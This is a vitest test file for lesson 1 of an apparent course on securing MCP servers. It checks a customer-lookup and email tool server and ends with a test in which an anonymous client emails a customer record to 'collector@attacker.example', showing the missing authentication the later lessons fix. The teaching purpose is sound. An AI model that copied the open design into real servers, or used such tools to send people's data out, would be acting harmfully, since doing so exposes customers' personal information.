/**
 * Lesson 1: the open server. Its tools work through a real MCP client, bad input becomes a tool
 * error instead of a crash, and — the finding — an anonymous caller can use every tool.
 */
import { request as httpRequest } from 'node:http';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import type { Express } from 'express';
import { createOutbox, type Outbox } from '../../shared/world/outbox.ts';
import { listenOnFreePort, shortPath, type Listening } from '../support/harness.ts';
import { connectHttpClient, resultText, said } from '../support/mcp.ts';
import { importLesson, lessonDir, requireExport } from '../support/target.ts';

const FILE = shortPath(path.join(lessonDir(1), 'server.ts'));
const TOOLS = {
  lookup_customer: 'TODO 1.1',
  search_customers: 'TODO 1.2',
  send_email: 'TODO 1.3',
} as const;
type ToolName = keyof typeof TOOLS;

/** Where to look, for messages: "TODO 1.1 in lessons/01-open-server/server.ts". */
const at = (todo: string) => `${todo} in ${FILE}`;

let outbox: Outbox;
let listening: Listening | undefined;
let mcpUrl: URL;
/** The Authorization header of every request that reached the app ('' when there was none). */
let authorizationHeaders: string[];
const clients: Client[] = [];

beforeEach(async () => {
  const lesson = await importLesson(1, 'server.ts');
  const createApp = requireExport<(deps: { outbox: Outbox }) => Express>(lesson, 'createApp', FILE);
  outbox = createOutbox();
  authorizationHeaders = [];
  const app = createApp({ outbox });
  // A thin wrapper records what reached the app, so a test can prove nobody sent credentials.
  listening = await listenOnFreePort((req, res) => {
    authorizationHeaders.push(req.headers.authorization ?? '');
    app(req, res);
  });
  // `localhost`, as a learner's client would use: the Host check of createMcpExpressApp allows it.
  mcpUrl = new URL(`http://localhost:${listening.port}/mcp`);
});

afterEach(async () => {
  await Promise.allSettled(clients.splice(0).map((client) => client.close()));
  await listening?.close();
  listening = undefined;
});

/** An MCP client with no credentials at all. Fails with a message that points at TODO 1.4. */
async function connect(): Promise<Client> {
  try {
    const client = await connectHttpClient(mcpUrl);
    clients.push(client);
    return client;
  } catch (error) {
    throw new Error(
      `An MCP client could not connect to POST ${mcpUrl.pathname}: ${describeFailure(error)}. ` +
        `Serve Streamable HTTP there (${at('TODO 1.4')}).`,
    );
  }
}

/** One readable line for a failed connect: the HTTP status if there was one, not an HTML error page. */
function describeFailure(error: unknown): string {
  const status = (error as { code?: unknown }).code;
  if (typeof status === 'number' && status >= 400) return `the server answered HTTP ${status}`;
  return String((error as Error).message ?? error).split('\n')[0]!;
}

/** Calls a tool; a protocol error (rather than a tool result) becomes a message naming the TODO. */
async function callTool(client: Client, name: ToolName, args: Record<string, unknown>): Promise<CallToolResult> {
  try {
    return (await client.callTool({ name, arguments: args })) as CallToolResult;
  } catch (error) {
    throw new Error(
      `Calling ${name} failed with a protocol error instead of returning a tool result: ${(error as Error).message}. ` +
        `Register the tool (${at(TOOLS[name])}).`,
    );
  }
}

/** Fails early, with the right TODO, when a tool is missing from tools/list. */
async function expectTools(client: Client, ...names: ToolName[]): Promise<void> {
  let listed: string[];
  try {
    listed = (await client.listTools()).tools.map((tool) => tool.name);
  } catch (error) {
    throw new Error(
      `tools/list failed: ${(error as Error).message}. The server offers no tools yet: register them (TODOs 1.1–1.3 in ${FILE}).`,
    );
  }
  for (const name of names) {
    expect(listed, `The server should offer the tool "${name}"; it lists [${listed.join(', ')}]. See ${at(TOOLS[name])}.`).toContain(name);
  }
}

/** A raw HTTP request, for what fetch cannot send (a foreign Host header). */
function rawRequest(method: string, headers: Record<string, string> = {}, body?: string) {
  return new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = httpRequest(mcpUrl, { method, headers }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

describe('lesson 1: the tools work through a real MCP client', () => {
  it('lists lookup_customer, search_customers and send_email with descriptions and input schemas', async () => {
    const client = await connect();
    await expectTools(client, 'lookup_customer', 'search_customers', 'send_email');
    const { tools } = await client.listTools();
    const expectedFields: Record<ToolName, string[]> = {
      lookup_customer: ['customerId'],
      search_customers: ['query'],
      send_email: ['to', 'subject', 'body'],
    };
    for (const [name, fields] of Object.entries(expectedFields) as [ToolName, string[]][]) {
      const tool = tools.find((candidate) => candidate.name === name)!;
      expect(
        tool.description?.trim(),
        `${name} needs a description: it is all a model reads before choosing the tool. See ${at(TOOLS[name])}.`,
      ).toBeTruthy();
      expect(
        Object.keys(tool.inputSchema.properties ?? {}).sort(),
        `${name}'s zod input schema should have exactly the fields [${fields.join(', ')}]. See ${at(TOOLS[name])}.`,
      ).toEqual([...fields].sort());
      expect(
        tool.inputSchema.required ?? [],
        `Every field of ${name} is required (no .optional()). See ${at(TOOLS[name])}.`,
      ).toEqual(expect.arrayContaining(fields));
    }
  });

  it('lookup_customer returns the customer with that ID', async () => {
    const client = await connect();
    await expectTools(client, 'lookup_customer');
    const result = await callTool(client, 'lookup_customer', { customerId: 'C-1003' });
    const text = resultText(result);
    expect(result.isError, `lookup_customer for C-1003 (a known customer) should succeed; it answered: ${said(text)}. See ${at('TODO 1.1')}.`).not.toBe(true);
    for (const expected of ['Priya Raman', 'Woodgrove Bank', 'priya.raman@woodgrovebank.example']) {
      expect(text, `lookup_customer for C-1003 should return that customer's record, including "${expected}". See ${at('TODO 1.1')}.`).toContain(expected);
    }
  });

  it('search_customers finds customers by name or company, whatever the case', async () => {
    const client = await connect();
    await expectTools(client, 'search_customers');
    const byCompany = resultText(await callTool(client, 'search_customers', { query: 'WOODGROVE' }));
    expect(byCompany, `Searching "WOODGROVE" should find C-1003 (Woodgrove Bank); the answer was: ${said(byCompany)}. See ${at('TODO 1.2')}.`).toContain('C-1003');
    const byName = resultText(await callTool(client, 'search_customers', { query: 'okafor' }));
    expect(byName, `Searching "okafor" should find C-1001 (Mara Okafor); the answer was: ${said(byName)}. See ${at('TODO 1.2')}.`).toContain('C-1001');
    expect(byName, `Searching "okafor" should find only Mara Okafor, not C-1003 too. See ${at('TODO 1.2')}.`).not.toContain('C-1003');
    const none = await callTool(client, 'search_customers', { query: 'no such company' });
    expect(
      none.isError,
      `No match is a normal answer, not an error: searching "no such company" returned isError: true (${resultText(none)}). Answer with text such as "No customer matches …". See ${at('TODO 1.2')}.`,
    ).not.toBe(true);
  });

  it('send_email puts exactly one mail into the outbox and answers with its message ID', async () => {
    const client = await connect();
    await expectTools(client, 'send_email');
    const mail = { to: 'priya.raman@woodgrovebank.example', subject: 'Your renewal', body: 'Hello Priya, ...' };
    const result = await callTool(client, 'send_email', mail);
    const sent = outbox.list();
    expect(result.isError, `send_email with valid input should succeed; it answered: ${said(resultText(result))}. See ${at('TODO 1.3')}.`).not.toBe(true);
    expect(sent, `One call to send_email should put exactly one mail into deps.outbox (outbox.send). See ${at('TODO 1.3')}.`).toHaveLength(1);
    expect(sent[0], `The mail in the outbox should carry the to, subject and body the client sent. See ${at('TODO 1.3')}.`).toMatchObject(mail);
    expect(resultText(result), `send_email's answer should name the message ID (${sent[0]!.id}) so the caller can refer to it. See ${at('TODO 1.3')}.`).toContain(sent[0]!.id);
  });
});

describe('lesson 1: bad input gives a tool error, not a crash', () => {
  it('an unknown customer ID gives an isError result, and the server keeps answering', async () => {
    const client = await connect();
    await expectTools(client, 'lookup_customer');
    const result = await callTool(client, 'lookup_customer', { customerId: 'C-9999' });
    expect(result.isError, `lookup_customer for C-9999 (no such customer) should return a result with isError: true; it answered: ${said(resultText(result))}. See ${at('TODO 1.1')}.`).toBe(true);
    expect(resultText(result), `The error text should name the ID that was not found, so the model can correct itself. See ${at('TODO 1.1')}.`).toContain('C-9999');
    expect(
      resultText(result),
      `The error text should say how to find a valid ID (search_customers), so the model knows what to do next; it said: ${said(resultText(result))}. See ${at('TODO 1.1')}.`,
    ).toContain('search_customers');
    const next = await callTool(client, 'lookup_customer', { customerId: 'C-1001' });
    expect(next.isError, `After an error the server should still answer the next call; lookup_customer C-1001 answered: ${said(resultText(next))}.`).not.toBe(true);
  });

  it('an invalid e-mail address or an empty subject gives an isError result and sends nothing', async () => {
    const client = await connect();
    await expectTools(client, 'send_email');
    const badAddress = await callTool(client, 'send_email', { to: 'not-an-address', subject: 'Hi', body: 'x' });
    expect(badAddress.isError, `send_email to "not-an-address" should be refused with isError: true; it answered: ${said(resultText(badAddress))}. Use z.email() for "to" (${at('TODO 1.3')}).`).toBe(true);
    const emptySubject = await callTool(client, 'send_email', { to: 'a@contoso.example', subject: '', body: 'x' });
    expect(emptySubject.isError, `send_email with an empty subject should be refused with isError: true; it answered: ${said(resultText(emptySubject))}. Require at least one character (${at('TODO 1.3')}).`).toBe(true);
    expect(outbox.list(), `Refused mails must not reach the outbox. See ${at('TODO 1.3')}.`).toHaveLength(0);
    const next = await callTool(client, 'send_email', { to: 'a@contoso.example', subject: 'Still there?', body: 'x' });
    expect(next.isError, `After refusing bad input the server should still send a valid mail; it answered: ${said(resultText(next))}.`).not.toBe(true);
  });
});

describe('lesson 1: the HTTP endpoint', () => {
  it('answers GET and DELETE /mcp with 405 and a JSON-RPC error (a stateless server has no stream or session)', async () => {
    for (const method of ['GET', 'DELETE']) {
      const response = await fetch(mcpUrl, { method, headers: { accept: 'application/json, text/event-stream' } });
      const body = await response.text();
      expect(response.status, `${method} /mcp should get 405 Method Not Allowed; it got ${response.status}. See ${at('TODO 1.5')}.`).toBe(405);
      expect(body, `The 405 body should be a JSON-RPC error object. See ${at('TODO 1.5')}.`).toContain('"jsonrpc":"2.0"');
    }
  });

  it('refuses a request whose Host header is not localhost (DNS rebinding protection, already in createMcpExpressApp)', async () => {
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' });
    const response = await rawRequest('POST', {
      host: 'attacker.example',
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
    }, body);
    expect(response.status, `A foreign Host header should get 403. Keep createMcpExpressApp() in createApp (${FILE}).`).toBe(403);
  });
});

describe('lesson 1: what you proved', () => {
  it('anyone can read customer data and send mail as this server: no credentials are asked for', async () => {
    const client = await connect();
    await expectTools(client, 'lookup_customer', 'search_customers', 'send_email');
    const customer = await callTool(client, 'lookup_customer', { customerId: 'C-1001' });
    const search = await callTool(client, 'search_customers', { query: 'bank' });
    const mail = await callTool(client, 'send_email', {
      to: 'collector@attacker.example',
      subject: 'Customer C-1001',
      body: resultText(customer),
    });
    for (const [name, result] of [['lookup_customer', customer], ['search_customers', search], ['send_email', mail]] as const) {
      expect(result.isError, `An anonymous caller should (for now) be able to call ${name}; it answered: ${said(resultText(result))}. See ${at(TOOLS[name])}.`).not.toBe(true);
    }
    expect(outbox.list().map((sent) => sent.to), 'The anonymous caller\'s mail, with C-1001\'s record in it, should be in the outbox.').toEqual(['collector@attacker.example']);
    expect(
      authorizationHeaders.filter(Boolean),
      'No request carried an Authorization header, yet every tool answered. This is the hole lessons 2–4 close.',
    ).toEqual([]);
  });
});
